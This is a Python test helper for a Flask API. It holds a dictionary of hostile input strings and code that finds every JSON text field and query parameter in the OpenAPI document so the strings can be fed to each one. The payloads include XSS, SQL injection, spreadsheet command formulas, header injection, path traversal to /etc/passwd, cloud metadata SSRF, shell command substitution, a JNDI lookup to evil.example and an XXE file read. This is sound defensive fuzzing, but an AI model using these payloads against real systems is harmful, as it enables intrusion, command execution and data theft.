"""Text that somebody will send one day, to see what happens; and where it can be sent."""

from collections.abc import Iterator
from typing import Any

from flask import Flask

from backend.web.openapi import document

NASTY = {
    # HTML and scripts.
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "attribute": "' onmouseover='alert(1)' x='",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "closing tags": "</title></textarea></style></script><h1>x",
    "comment": "<!-- --> <![CDATA[ x ]]> -->",
    "javascript link": "javascript:alert(document.cookie)//",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "half a tag": "<a href=",
    "style": "<style>*{background:url(//evil.example)}</style>",
    # SQL.
    "quote": "O'Brien",
    "always true": "' OR '1'='1",
    "drop": "'; DROP TABLE users; --",
    "union": "1 UNION SELECT password FROM users--",
    "like": "100%_\\%",
    "backslash": "\\' OR 1=1 -- ",
    "double quote": '"; DELETE FROM users; --',
    "parameter": ":name :lot_id %(name)s $1 ? ?1",
    "cast": "'::text; SELECT pg_sleep(9)--",
    # ReportLab's markup.
    "bold": "<b>Bo</b> & <i>x",
    "file in a page": '<img src="file:///etc/passwd"/>',
    "font": "<font size=99 color=red>x</font>",
    "link in a page": '<a href="http://evil.example">x</a>',
    "paragraph": "<para align=center><br/>x</para>",
    "unknown tag": "<nothing of='this'/><unclosed",
    "ampersands": "&&amp;&nbsp;&unknown;&#x0;",
    # Formulas of spreadsheets.
    "equals": "=1+1",
    "command": "=cmd|'/C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!D2",
    "at": "@SUM(1,1)",
    "hyperlink": '=HYPERLINK("http://evil.example","x")',
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    # Lines and headers.
    "header": "x\r\nBcc: victim@example.net",
    "body": "x\r\n\r\n<html>",
    "line feed": "x\nSubject: y",
    "lone return": "x\rTo: victim@example.net",
    "line separator": "x\u2028Bcc: victim@example.net\u2029y\u0085z",
    "encoded word": "=?utf-8?q?=0D=0ABcc:_victim@example.net?=",
    "encoded word that is an address": "=?utf-8?q?=0D=0ABcc=3A_v=40example.net?=",
    "encoded word in base64": "=?utf-8?b?DQpCY2M6IHZpY3RpbUBleGFtcGxlLm5ldA==?=",
    "semicolon": 'x"; filename="evil.exe',
    "log line": 'x","level":"error","message":"forged"}\n{"at":"now"',
    "terminal": "\x1b[2J\x1b]0;x\x07\x1b[31m",
    # What no text may hold, or hardly.
    "nul": "x\x00y",
    "nul alone": "\x00",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "lone surrogate": "x\ud800y",
    "not a character": "x\ufffe\uffff\U0010ffff",
    "byte order mark": "\ufeffx",
    # Signs that are not what they seem.
    "right to left": "x\u202egpj.exe\u202c",
    "isolates": "\u2066x\u2069\u200f\u200e",
    "zero width": "a\u200bd\u200cm\u200di\u2060n",
    "combining": "Z" + "\u0300\u0301\u0302\u0303" * 12,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea\U0001f3f4",
    "homoglyphs": "\u0430dmin \u0391dmin \u0410dmin",
    "full width": "\uff1cscript\uff1e\uff07\uff02",
    "dotless": "\u0130stanbul \u0131 \u017f \u212a",
    "sharp s": "Stra\u00dfe \ufb03",
    "ideographs": "\u99d0\u8eca\u5834 \U00020000",
    "arabic": "\u0645\u0648\u0642\u0641 \ufdfa",
    "digits of others": "\u0661\u0662\u0663 \u0967\u0968\u0969 \u2460",
    # Length, shape and emptiness.
    "long": "x" * 10_000,
    "long in bytes": "\U0001f697" * 5_000,
    "blank": " ",
    "blanks around": "  x  ",
    "other blanks": "\u00a0\u2003\u3000",
    "empty": "",
    "word null": "null",
    "word undefined": "undefined",
    "not a number": "NaN",
    "number": "1e400",
    "brackets": "[]{}()<>",
    "json": '{"$ne": null, "__proto__": {"admin": true}}',
    "prototype": "__proto__",
    # Paths, templates, formats.
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\windows\\win.ini",
    "encoded path": "%2e%2e%2f%00.pdf",
    "device": "/dev/zero",
    "address": "http://169.254.169.254/latest/meta-data/",
    "file address": "file:///etc/passwd",
    "jinja": "{{ 7*7 }}{{ config }}{% for x in () %}",
    "shell": "$(id) `id` ; id | id && id",
    "dollar": "${7*7} #{7*7} <%= 7*7 %>",
    "lookup": "${jndi:ldap://evil.example/x}",
    "percent": "%s %d %n %(x)s {0} {x} {x.__class__}",
    "pattern": "(a+)+$" + "a" * 60,
    "glob": "*",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
}

Field = tuple[str, tuple[str | int, ...]]
"""An operation, and the way to a text in its body."""


def text_fields(app: Flask) -> Iterator[Field]:
    """Find every text that a body takes as JSON: read off the document, so that none is forgotten."""
    described = document(app)
    for path, methods in described["paths"].items():
        for method, operation in methods.items():
            content = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if content is not None:
                name = f"{method.upper()} {path}"
                for way in _texts(described, content["schema"], ()):
                    yield name, way


def text_parameters(app: Flask) -> Iterator[tuple[str, str]]:
    """Find every text of a query string."""
    described = document(app)
    for path, methods in described["paths"].items():
        for method, operation in methods.items():
            for parameter in operation.get("parameters", []):
                asked = _resolved(described, parameter)
                if asked["in"] == "query":
                    yield f"{method.upper()} {path}", asked["name"]


def put(body: Any, way: tuple[str | int, ...], text: str) -> Any:
    """Give a copy of a body with a text at the end of the way."""
    if not way:
        return text
    first, *rest = way
    if isinstance(first, int):
        items = list(body or [{}])
        return [put(items[0], tuple(rest), text), *items[1:]]
    return {**(body or {}), first: put((body or {}).get(first), tuple(rest), text)}


def get(body: Any, way: tuple[str | int, ...]) -> Any:
    """Give what stands at the end of the way; None when nothing does."""
    for step in way:
        if isinstance(step, int):
            body = body[0] if isinstance(body, list) and body else None
        else:
            body = body.get(step) if isinstance(body, dict) else None
    return body


def _texts(
    described: dict[str, Any], part: dict[str, Any], way: tuple[str | int, ...]
) -> Iterator[tuple[str | int, ...]]:
    schema = _resolved(described, part)
    for choice in (*schema.get("anyOf", ()), *schema.get("oneOf", ()), *schema.get("allOf", ())):
        yield from _texts(described, choice, way)
    kinds = schema.get("type", ())
    kinds = {kinds} if isinstance(kinds, str) else set(kinds)
    if "string" in kinds and way:
        yield way
    for name, each in schema.get("properties", {}).items():
        yield from _texts(described, each, (*way, name))
    if "items" in schema:
        yield from _texts(described, schema["items"], (*way, 0))


def _resolved(described: dict[str, Any], part: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in part:
        found: Any = described
        for step in part["$ref"].removeprefix("#/").split("/"):
            found = found[step]
        part = found
    return part
